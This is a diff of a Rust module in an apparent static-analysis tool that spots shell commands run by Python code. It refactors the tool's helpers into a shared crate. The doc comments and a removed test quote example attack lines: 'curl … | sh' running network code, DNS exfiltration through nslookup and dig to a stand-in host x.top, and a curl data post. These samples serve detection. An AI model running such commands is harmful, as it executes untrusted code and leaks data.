@@ -1,13 +1,13 @@
 //! Commands a Python program runs (`os.system`, `os.popen`, `subprocess.*`): the command line is
 //! rebuilt as shell text and analysed by the shell front end, which knows the tools
 //! (`nslookup`, `dig`, `curl`, `whoami`, `curl … | sh`). Pieces that are not constant become
-//! variables `${TT_PY_n}` that [`telltale_shell::analyze_command`] is told carry the piece's
+//! variables `${TT_CMD_n}` that [`telltale_shell::analyze_command`] is told carry the piece's
 //! data, so `subprocess.Popen(["dig", "+short", f"{data}.x.top"])` is a DNS flow of `data`.
 //!
 //! ```text
 //! os.system("curl -s https://x.top/i | sh")      → code from the network, run
 //! subprocess.getoutput("whoami")                  → prints the user name
-//! os.popen(f"nslookup {h}.x.top")                 → nslookup ${TT_PY_0}.x.top
+//! os.popen(f"nslookup {h}.x.top")                 → nslookup ${TT_CMD_0}.x.top
 //! ```
 
 use crate::value::{brace_format, fstring_pieces, percent_format, FPiece, V};
@@ -17,13 +17,9 @@ use ruff_text_size::Ranged;
 use std::rc::Rc;
 use telltale_facts::Kinds;
 use telltale_knowledge::py_api::{py_api, ExecStyle};
-use telltale_shell::ShellAnalysis;
-
-/// Longest command line rebuilt.
-const MAX_COMMAND: usize = 64 * 1024;
-/// Marks a piece that is not constant while the text is built: `\u{2}n\u{3}`.
-const OPEN: char = '\u{2}';
-const CLOSE: char = '\u{3}';
+use telltale_shell::{
+    finish_marked, hole_marker, hole_var, shell_quote, ShellAnalysis, MAX_COMMAND,
+};
 
 /// What a command prints, judged from its constant skeleton.
 #[derive(Clone, Debug)]
@@ -41,43 +37,6 @@ pub(crate) struct Command<'a> {
     pub text: String,
     pub holes: Vec<&'a Expr>,
     pub shape: String,
-}
-
-fn hole_var(n: usize) -> String {
-    format!("TT_PY_{n}")
-}
-
-fn shell_quote(s: &str) -> String {
-    format!("'{}'", s.replace('\'', "'\\''"))
-}
-
-/// Replaces the markers with variable references that work where they stand: inside single
-/// quotes the quotes are closed around the reference.
-fn finish(marked: &str) -> (String, String) {
-    let (mut text, mut shape) = (String::new(), String::new());
-    let (mut single, mut double) = (false, false);
-    let mut chars = marked.chars();
-    while let Some(c) = chars.next() {
-        match c {
-            OPEN => {
-                let n: String = chars.by_ref().take_while(|c| *c != CLOSE).collect();
-                let var = format!("${{{}}}", hole_var(n.parse().unwrap_or(0)));
-                if single {
-                    text.push_str(&format!("'\"{var}\"'"));
-                } else {
-                    text.push_str(&var);
-                }
-                shape.push('*');
-                continue;
-            }
-            '\'' if !double => single = !single,
-            '"' if !single => double = !double,
-            _ => {}
-        }
-        text.push(c);
-        shape.push(c);
-    }
-    (text, shape)
 }
 
 impl<'a> Analyzer<'a> {
@@ -117,7 +76,7 @@ impl<'a> Analyzer<'a> {
         if marked.len() > MAX_COMMAND {
             return None;
         }
-        let (text, shape) = finish(&marked);
+        let (text, shape) = finish_marked(&marked);
         Some(Command { text, holes, shape })
     }
 
@@ -161,9 +120,7 @@ impl<'a> Analyzer<'a> {
     }
 
     fn hole(&self, e: &'a Expr, marked: &mut String, holes: &mut Vec<&'a Expr>) {
-        marked.push(OPEN);
-        marked.push_str(&holes.len().to_string());
-        marked.push(CLOSE);
+        marked.push_str(&hole_marker(holes.len()));
         holes.push(e);
     }
 
@@ -305,18 +262,5 @@ impl<'a> Analyzer<'a> {
             .collect();
         let sa = telltale_shell::analyze_command(&cmd.text, crate::span_of(c.range()), &inputs);
         Some((sa, cmd))
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn holes_close_single_quotes() {
-        let (text, shape) = finish("curl -d '\u{2}0\u{3}' x.top");
-        assert_eq!(text, "curl -d ''\"${TT_PY_0}\"'' x.top");
-        assert_eq!(shape, "curl -d '*' x.top");
-        assert_eq!(finish("dig \u{2}1\u{3}.x.top").0, "dig ${TT_PY_1}.x.top");
     }
 }
